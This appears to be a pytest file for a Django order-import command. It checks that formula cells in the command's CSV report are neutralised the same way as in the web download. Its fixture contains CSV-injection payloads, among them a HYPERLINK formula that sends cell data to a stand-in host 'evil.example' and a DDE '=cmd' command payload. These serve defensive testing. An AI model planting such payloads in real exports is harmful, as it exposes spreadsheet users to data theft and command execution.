"""The command's report is as safe to open in a spreadsheet as the web download."""

import csv
import io
from io import StringIO
from pathlib import Path

import pytest
from django.core.management import call_command

from customers.models import OrderImport
from tests.responses import streamed_text

pytestmark = pytest.mark.django_db

FORMULAS = """\
customer_id,order_id,placed_at,amount,email
C1,O1,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",1.00,
C2,+O2,2025-01-01,@SUM(A1:A9),
C3,O3,2025-01-01,-3.00,
C4,O4,2025-01-01,1.00,=cmd|' /C calc'!A0
"""


def test_the_command_report_neutralises_formula_cells_as_the_download_does(
    write_csv, tmp_path: Path, admin_client
):
    report = tmp_path / "report.csv"

    call_command(
        "import_orders", str(write_csv(FORMULAS)), "--report", str(report), stdout=StringIO()
    )

    with report.open(newline="") as f:
        written = list(csv.reader(f))
    assert [row[4] for row in written] == [
        "value",
        '\'=HYPERLINK("http://evil.example/?"&A1,"click")',
        "'@SUM(A1:A9)",
        "'-3.00",
        "'=cmd|' /C calc'!A0",
    ]
    pk = OrderImport.objects.get().pk
    download = admin_client.get(f"/customers/imports/{pk}/rejected-rows.csv")
    body = streamed_text(download)
    assert list(csv.reader(io.StringIO(body))) == written
